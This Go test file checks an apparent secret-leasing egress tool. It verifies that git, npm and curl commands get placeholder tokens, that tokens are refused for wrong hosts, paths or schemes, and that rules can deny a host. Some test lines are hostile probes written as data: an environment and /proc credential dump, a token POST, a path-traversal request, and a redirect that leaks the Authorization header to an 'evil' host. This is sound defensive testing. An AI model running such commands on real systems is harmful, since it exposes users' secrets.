package egress

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/cgi"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// Hosts that want a token, and the tokens that commands must never see.
const (
	forge       = "git.example.com"
	forgeToken  = "glpat-Zm9yZ2UtdG9rZW4tMTIz"
	shelf       = "npm.example.com"
	shelfToken  = "npm_c2hlbGYtdG9rZW4tNDU2Nzg5"
	leasedPaths = "/me/*,/@me/*,/@me%2f*"
)

// leases runs real programs that need a token, with placeholders.
func leases(t *testing.T, n *internet) {
	repository := makeRepository(t, "private.git")
	runGit(t, repository, "config", "http.receivepack", "true")
	n.host(forge, "151.101.0.6", forgePages(filepath.Dir(filepath.Dir(repository))))
	n.host(shelf, "151.101.0.7", shelfPages())
	p := newPerson(t, n, "")
	p.lease(t, forgeToken, "FORGE_TOKEN", "--host", forge, "--methods", "GET,POST", "--paths", leasedPaths)
	p.lease(t, shelfToken, "SHELF_TOKEN", "--host", shelf, "--methods", "GET", "--paths", leasedPaths)
	must(t, os.WriteFile(filepath.Join(p.project, "package.json"), []byte(`{"name":"p","version":"1.0.0"}`), 0o644))
	clone := "git clone -q https://x:$FORGE_TOKEN@" + forge + "/me/private.git cloned"
	for _, tt := range []struct {
		needs, line string
		code        int
		says        []string
	}{
		{"git version", clone + " && git -C cloned log --oneline", 0, []string{"one", "Reached: " + forge + ":443 (lease FORGE_TOKEN)", "FORGE_TOKEN: "}},
		{
			"git version", clone + ` && cd cloned && git -c user.name=a -c user.email=a@example.com commit -q --allow-empty -m two && git push -q origin main`, 0,
			[]string{"FORGE_TOKEN: "},
		},
		{"git version", "git ls-remote https://x:$FORGE_TOKEN@" + forge + "/other/private.git", 128, nil},
		{"git version", "GIT_TERMINAL_PROMPT=0 git ls-remote https://" + forge + "/me/private.git", 128, nil},
		{"npm --version", `npm install "--@me:registry=https://` + shelf + `/" "--//` + shelf + `/:_authToken=$SHELF_TOKEN" @me/left`, 0, []string{"SHELF_TOKEN: "}},
		{"npm --version", "npm publish", 1, nil},
		{"curl --version", `curl -sS -H "Authorization: Bearer $FORGE_TOKEN" https://` + forge + "/me/echo", 0, []string{"umpire_"}},
		{"curl --version", `curl -sSL -H "Authorization: Bearer $FORGE_TOKEN" https://` + forge + "/me/away", 56, nil},
		{"curl --version", `curl -sS -d "$FORGE_TOKEN" https://` + forge + "/me/echo", 22, []string{"Refused: FORGE_TOKEN@" + forge + ":443"}},
		{"curl --version", `curl -sS -H "Authorization: Bearer $SHELF_TOKEN" https://` + forge + "/me/echo", 22, []string{"Refused: SHELF_TOKEN@" + forge + ":443"}},
		{"curl --version", `curl -sS --path-as-is -H "Authorization: Bearer $FORGE_TOKEN" https://` + forge + "/me/../user", 22, []string{"Refused: FORGE_TOKEN@"}},
		{"curl --version", `curl -sS -H "Authorization: Bearer $FORGE_TOKEN" http://` + forge + "/me/echo", 22, []string{"Refused: "}},
		{"curl --version", "env; cat /proc/*/environ; find ~/.umpire /root -maxdepth 3 -name '*TOKEN*'; true", 0, []string{"FORGE_TOKEN=umpire_"}},
	} {
		t.Run(tt.line, func(t *testing.T) {
			if exec.CommandContext(t.Context(), "sh", "-c", tt.needs).Run() != nil {
				t.Skip(tt.needs)
			}
			out, code := p.run(t, "try", "--discard", "--", strings.Replace(tt.line, "curl -sS", "curl -fsS", 1))
			if (code == 0) != (tt.code == 0) {
				t.Errorf("exit code %d, want %d", code, tt.code)
			}
			for _, want := range tt.says {
				if !strings.Contains(out, want) {
					t.Errorf("nothing says %q", want)
				}
			}
			for _, token := range []string{forgeToken, shelfToken} {
				if strings.Contains(out, token) {
					t.Error("the command saw the token")
				}
			}
			if t.Failed() {
				t.Log(out)
			}
		})
	}
	if log, err := exec.CommandContext(t.Context(), "git", "-C", repository, "log", "--oneline").Output(); err != nil ||
		!strings.Contains(string(log), "two") {
		t.Errorf("nothing was pushed: %s, %v", log, err)
	}
	if out, code := p.run(t, "secrets", "revoke", "FORGE_TOKEN"); code != 0 {
		t.Error(out)
	}
	if out, code := p.run(t, "try", "--discard", "--", clone); code == 0 || !strings.Contains(out, forge) {
		t.Errorf("after the lease ended: exit code %d\n%s", code, out)
	}
	must(t, os.WriteFile(filepath.Join(p.project, "fetch.sh"), []byte(
		`curl -fsS -H "Authorization: Bearer $SHELF_TOKEN" https://`+shelf+"/@me/left\n"), 0o644))
	if out, code := p.run(t, "try", "--discard", "--", "bash", "fetch.sh"); code != 0 {
		t.Errorf("exit code %d\n%s", code, out)
	}
	if out, code := p.run(t, "rules", "add", "deny", "WebFetch(domain:"+shelf+")", "--scope", "project"); code != 0 {
		t.Error(out)
	}
	n.forget()
	if out, code := p.run(t, "try", "--discard", "--", "bash", "fetch.sh"); code == 0 || len(n.requests) > 0 ||
		!strings.Contains(out, "It wants "+shelf+":443") {
		t.Errorf("a rule denies the host: exit code %d\n%s", code, out)
	}
	if all, err := exec.CommandContext(t.Context(), "grep", "-rla", "-e", forgeToken, "-e", shelfToken, p.home).Output(); err == nil {
		t.Errorf("the token lies in %s", all)
	}
}

// lease leases a secret for the project.
func (p *person) lease(t *testing.T, value string, args ...string) {
	t.Helper()
	cmd := exec.CommandContext(t.Context(), p.program, append([]string{"secrets", "lease"}, args...)...)
	cmd.Dir, cmd.Stdin = p.project, strings.NewReader(value+"\n")
	cmd.Env = []string{"HOME=" + p.home, "PATH=" + os.Getenv("PATH")}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
}

// makeRepository returns the folder of a repository me/NAME with one commit.
func makeRepository(t *testing.T, name string) string {
	t.Helper()
	repository, first := filepath.Join(t.TempDir(), "me", name), filepath.Join(t.TempDir(), "first")
	runGit(t, ".", "init", "-q", "--bare", "-b", "main", repository)
	runGit(t, ".", "init", "-q", "-b", "main", first)
	runGit(t, first, "-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-q", "--allow-empty", "-m", "one")
	runGit(t, first, "push", "-q", repository, "main")
	return repository
}

// gitBackend serves the repositories below a folder.
func gitBackend(root string) http.HandlerFunc {
	core, _ := exec.CommandContext(context.Background(), "git", "--exec-path").Output()
	backend := &cgi.Handler{
		Path: filepath.Join(strings.TrimSpace(string(core)), "git-http-backend"), Stderr: io.Discard,
		Env: []string{"GIT_PROJECT_ROOT=" + root, "GIT_HTTP_EXPORT_ALL=1", "REMOTE_USER=x"},
	}
	return backend.ServeHTTP
}

// forgePages serves repositories, and pages that repeat or send away what they get, to those with the token.
func forgePages(root string) http.HandlerFunc {
	backend := gitBackend(root)
	return func(w http.ResponseWriter, r *http.Request) {
		_, password, _ := r.BasicAuth()
		switch {
		case password != forgeToken && r.Header.Get("Authorization") != "Bearer "+forgeToken:
			w.Header().Set("WWW-Authenticate", `Basic realm="x"`)
			w.WriteHeader(http.StatusUnauthorized)
		case r.URL.Path == "/me/echo":
			w.Header().Set("X-Echo", r.Header.Get("Authorization"))
			fmt.Fprint(w, r.Header)
		case r.URL.Path == "/me/away":
			http.Redirect(w, r, "https://"+evil+"/?"+r.Header.Get("Authorization"), http.StatusTemporaryRedirect)
		default:
			backend(w, r)
		}
	}
}

// shelfPages is a private registry of npm.
func shelfPages() http.HandlerFunc {
	about, tarball := leftOf("@me/left", "https://"+shelf+"/@me/left/-/left-1.0.0.tgz")
	return func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.Header.Get("Authorization") != "Bearer "+shelfToken:
			w.WriteHeader(http.StatusUnauthorized)
		case r.URL.Path == "/@me/left":
			_, _ = w.Write(about)
		case r.URL.Path == "/@me/left/-/left-1.0.0.tgz":
			_, _ = w.Write(tarball)
		default:
			http.NotFound(w, r)
		}
	}
}

func runGit(t *testing.T, dir string, args ...string) {
	t.Helper()
	if out, err := exec.CommandContext(t.Context(), "git", append([]string{"-C", dir}, args...)...).CombinedOutput(); err != nil {
		t.Fatalf("git %s: %v\n%s", args, err, out)
	}
}
